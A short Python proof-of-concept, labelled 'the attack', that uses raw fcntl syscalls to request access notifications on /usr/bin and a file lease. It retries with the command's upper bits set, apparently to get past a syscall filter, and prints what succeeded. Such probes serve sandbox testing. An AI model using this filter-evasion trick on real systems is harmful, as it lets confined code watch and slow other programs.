# The attack: get a signal whenever a program opens a file in /usr/bin, which costs that program CPU time; or a lease.
import ctypes, os

F_SETLEASE, F_NOTIFY, DN_ACCESS, DN_MULTISHOT, HIGH = 1024, 1026, 1, 0x80000000, 1 << 32
libc, made = ctypes.CDLL(None), []
input()
folder, file = os.open("/usr/bin", os.O_RDONLY), os.open("/tmp/mine", os.O_RDONLY | os.O_CREAT)
for command in (F_NOTIFY, F_NOTIFY + HIGH):  # the kernel reads only the lower half of the number
    if libc.syscall(72, folder, ctypes.c_ulong(command), ctypes.c_ulong(DN_ACCESS | DN_MULTISHOT)) == 0:
        made.append("watch")
if libc.syscall(72, file, F_SETLEASE, 0) == 0:
    made.append("lease")
duplicate = libc.fcntl(file, 1030, 50)  # F_DUPFD_CLOEXEC, as every library uses
print(made or ("nothing" if duplicate >= 50 else "no duplicates"))
